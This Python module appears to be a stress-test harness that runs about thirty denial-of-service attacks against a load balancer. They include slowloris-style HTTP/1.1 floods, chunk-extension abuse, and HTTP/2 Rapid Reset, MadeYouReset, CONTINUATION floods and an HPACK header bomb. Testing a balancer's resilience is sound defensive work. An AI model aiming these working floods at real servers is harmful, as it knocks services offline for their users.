"""The attacks. In: the address of a balancer, and until when. Out: counts of what was done and of how it ended. What each is
for stands in its line of the table at the end.
"""

import collections
import re
import subprocess
import time
from dataclasses import dataclass
from typing import Callable

import frames
import peers

KB = 1024
LARGE = b"/1m"


# === HTTP/1.1 ===


def slowhttptest(*flags, path="/small", connections=1000):
    """The tool. Its connections are as many as we say, opened in the first seconds. It says something every five seconds."""

    def run(address, until):
        seconds = max(1, int(until - time.monotonic()))
        command = ["slowhttptest", *flags, "-c", str(connections), "-r", str(connections // 3), "-l", str(seconds), "-p", "5",
                   "-u", f"https://{address}{path}"]
        said = subprocess.run(command, capture_output=True, text=True).stdout
        said = re.sub(r"\x1b\[[\d;]*m", "", said)
        counts = collections.Counter()
        # it repaints its screen: the most that was ever there
        for name in ("connected", "error", "closed"):
            counts[f"{name}"] = max(map(int, re.findall(rf"^{name}:\s+(\d+)", said, re.M)), default=0)
        counts["ended by the server"] = counts.pop("closed")
        return counts

    return run


def chunks(piece, number):
    """A body that begins with this and never ends."""

    def run(address, until):
        def script(peer):
            yield b"POST /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
            first, rest = piece
            yield first
            while True:
                yield rest

        counts, connect = peers.http1(address, script)
        peers.drive(until, number, connect, counts)
        return counts

    return run


def idle(number, request=None, protocol=None, opening=b""):
    return lambda address, until: peers.hold(address, number, until, request, protocol, opening)


# === HTTP/2 ===


def flood(number, script, settings=(), reads=True):
    def run(address, until):
        counts, connect = peers.http2(address, script, settings=settings, reads=reads)
        peers.drive(until, number, connect, counts)
        return counts

    return run


def streams(piece, each=50):
    """New streams without end, so many in one piece."""

    def script(peer):
        stream = 1
        while stream < 1 << 30:
            peer.counts["streams"] += each
            yield b"".join(piece(stream + 2 * number) for number in range(each))
            stream += 2 * each

    return script


def again(piece, opening=b"", name="frames", each=1):
    def script(peer):
        if opening:
            yield opening
        while True:
            peer.counts[name] += each
            yield piece

    return script


def rapid_reset(stream):
    return frames.get(stream, b"/small") + frames.frame(frames.RST_STREAM, stream=stream, payload=b"\0\0\0\x08")


def made_to_reset(stream):
    """A request, then an error on its stream: an increment of zero (RFC 9113, section 6.9)."""
    return frames.get(stream, LARGE) + frames.frame(frames.WINDOW_UPDATE, stream=stream, payload=bytes(4))


def made_to_reset_late(stream):
    """A window that overflows once the answer is under way."""
    return frames.get(stream, LARGE) + frames.frame(frames.WINDOW_UPDATE, stream=stream, payload=b"\x7f\xff\xff\xff")


def headers_then_continuations(payload):
    opening = frames.frame(frames.HEADERS, frames.END_STREAM, 1, frames.request(b"/small"))
    return again(frames.frame(frames.CONTINUATION, stream=1, payload=payload) * 20, opening, each=20)


def bomb(value, times):
    """The first stream puts a field into the table, the others name it with one byte each."""

    def script(peer):
        large = frames.field(b"bomb", value, kept=True)
        yield frames.get(1, b"/small", large)
        stream = 3
        while stream < 1 << 30:
            peer.counts["streams"] += 1
            yield frames.get(stream, b"/small", frames.INDEXED_62 * times)
            stream += 2

    return script


def stalled_reader(extra=b"", paths=(LARGE,)):
    """As many streams as are allowed, and not one byte of window."""

    def script(peer):
        for number in range(128):
            yield frames.get(2 * number + 1, paths[number % len(paths)], extra)
            peer.counts["streams"] += 1
        while True:
            yield b""

    return script


def tiny_data(size):
    """One upload that nobody reads, in the smallest frames."""
    piece = frames.frame(frames.DATA, stream=1, payload=b"x" * size) * 500
    opening = frames.post(1, b"/stalled")
    if not size:
        return again(piece, opening, each=500)

    def script(peer):
        yield opening
        # as much as fits into the stream's window; more would be an error of ours
        for _ in range(256 * KB // 500):
            yield piece
            peer.counts["frames"] += 500
        while True:
            yield b""

    return script


def slow_uploads(peer):
    """As many streams as are allowed, a byte on each once in a while."""
    for number in range(128):
        yield frames.post(2 * number + 1, b"/upload")
        peer.counts["streams"] += 1
    while True:
        due = time.monotonic() + 1
        while time.monotonic() < due:
            yield b""
        yield b"".join(frames.frame(frames.DATA, stream=2 * number + 1, payload=b"x") for number in range(128))


def dribble(address, until):
    """h2load with a window of one byte: an answer of 16 KB takes 16,384 frames and as many updates."""
    seconds = max(1, int(until - time.monotonic()))
    command = ["h2load", "-t", "1", "-c", "20", "-m", "20", "-w", "1", "-D", str(seconds), f"https://{address}/16k"]
    said = subprocess.run(command, capture_output=True, text=True).stdout
    found = re.search(r"requests: \d+ total, (\d+) started, (\d+) done", said)
    started, done = map(int, found.groups()) if found else (0, 0)
    return collections.Counter({"connections": 20, "streams": started, "streams done": done})


PING = frames.frame(frames.PING, payload=b"12345678")
EMPTY = (frames.INITIAL_WINDOW_SIZE, 0)
MANY_FIELDS = b"".join(frames.field(b"x-%d" % number, b"v" * 250) for number in range(90))
# never indexed, so that nothing but the block grows
LITERALS = b"".join(frames.field(b"f-%03d" % number, b"v" * 90) for number in range(150))


@dataclass
class Attack:
    what: str
    run: Callable
    tls: bool = True
    processes: int = 1
    config: str = ""


ATTACKS = {
    "slow-headers": Attack("slowhttptest -H: 1000 heads that never end, a field a second",
                           slowhttptest("-H", "-i", "1", "-x", "24")),
    "slow-body": Attack("slowhttptest -B: 1000 uploads, some bytes a second",
                        slowhttptest("-B", "-i", "1", "-s", "65536", "-x", "10", path="/upload")),
    "slow-body-h2": Attack("20 connections with 128 uploads each, a byte a second",
                           flood(20, slow_uploads)),
    "slow-reader": Attack("slowhttptest -X: 1000 readers of 1 MB, 32 bytes every 5 s, a window of 512 to 1024 bytes",
                          slowhttptest("-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", path="/1m")),
    "zero-window": Attack("50 connections with 128 streams each that ask for 1 MB and have no window",
                          flood(50, stalled_reader(), [EMPTY])),
    "dribble": Attack("h2load -w 1: 20 connections, 20 answers of 16 KB each, byte by byte", dribble),
    "idle": Attack("20,000 connections that say nothing, of one address", idle(10000), tls=False, processes=2),
    "idle-limited": Attack("the same with `max_connections_per_client = 1000`", idle(10000), tls=False, processes=2,
                           config="max_connections_per_client = 1000"),
    "idle-kept": Attack("16,000 connections, each after an answer",
                        idle(8000, b"GET /small HTTP/1.1\r\nHost: localhost\r\n\r\n"), tls=False, processes=2),
    "idle-tls": Attack("20,000 connections to the port of TLS that say nothing", idle(10000), processes=2),
    "idle-handshake": Attack("20,000 connections that say nothing after a handshake", idle(10000, protocol="http/1.1"), processes=2),
    "idle-h2": Attack("2,000 connections of HTTP/2 without a request",
                      idle(2000, protocol="h2", opening=frames.PREFACE + frames.settings())),
    "rapid-reset": Attack("8 connections: a request and its reset, without end (CVE-2023-44487)",
                          flood(8, streams(rapid_reset))),
    "made-you-reset": Attack("8 connections: a request and a window update of 0 (CVE-2025-8671)",
                             flood(8, streams(made_to_reset, 20))),
    "made-you-reset-overflow": Attack("the same, an update that overflows", flood(8, streams(made_to_reset_late, 20))),
    "continuation": Attack("8 connections: a head that goes on in CONTINUATION frames of 16 KB",
                           flood(8, headers_then_continuations(LITERALS[:16 * KB]))),
    "continuation-empty": Attack("the same, empty frames", flood(8, headers_then_continuations(b""))),
    "header-bomb": Attack("8 connections: a field of 4 KB named 16,000 times per head",
                          flood(8, bomb(b"b" * 4000, 16000), [EMPTY])),
    "header-bomb-small": Attack("20 connections: a field of 1 byte named 800 times per head, no window for the answers",
                                flood(20, bomb(b"b", 800), [EMPTY])),
    "fields-zero-window": Attack("50 connections with 128 streams each, 90 fields (23 KB) per head, no window",
                                 flood(50, stalled_reader(MANY_FIELDS), [EMPTY])),
    "settings": Attack("8 connections: SETTINGS without end, acknowledgements read",
                       flood(8, again(frames.settings((frames.INITIAL_WINDOW_SIZE, 65535)) * 500, each=500))),
    "settings-unread": Attack("the same, acknowledgements not read",
                              flood(8, again(frames.settings((frames.INITIAL_WINDOW_SIZE, 65535)) * 500, each=500), reads=False)),
    "ping": Attack("8 connections: PING without end, answers read", flood(8, again(PING * 500, each=500))),
    "ping-unread": Attack("the same, answers not read", flood(8, again(PING * 500, each=500), reads=False)),
    "window-update": Attack("8 connections: WINDOW_UPDATE of the connection by one byte, without end", flood(8, again(
        frames.frame(frames.WINDOW_UPDATE, payload=b"\0\0\0\x01") * 500, each=500))),
    "priority": Attack("8 connections: PRIORITY without end", flood(8, again(
        frames.frame(frames.PRIORITY, stream=1, payload=b"\0\0\0\0\x10") * 500, each=500))),
    "empty-data": Attack("8 connections: an upload of empty DATA frames, to a server that does not read",
                         flood(8, tiny_data(0))),
    "tiny-data": Attack("20 connections: an upload in DATA frames of 1 byte, to a server that does not read",
                        flood(20, tiny_data(1))),
    "chunk-extension": Attack("50 connections: one chunk extension without end",
                              chunks((b"1;", b"a" * 16384), 50)),
    "chunk-extensions": Attack("50 connections: chunks of 1 byte with 200 bytes of extension, without end",
                               chunks((b"", (b"1;" + b"a" * 200 + b"\r\nx\r\n") * 10), 50)),
    "tiny-chunks": Attack("50 connections: chunks of 1 byte, without end", chunks((b"", b"1\r\nx\r\n" * 2000), 50)),
}
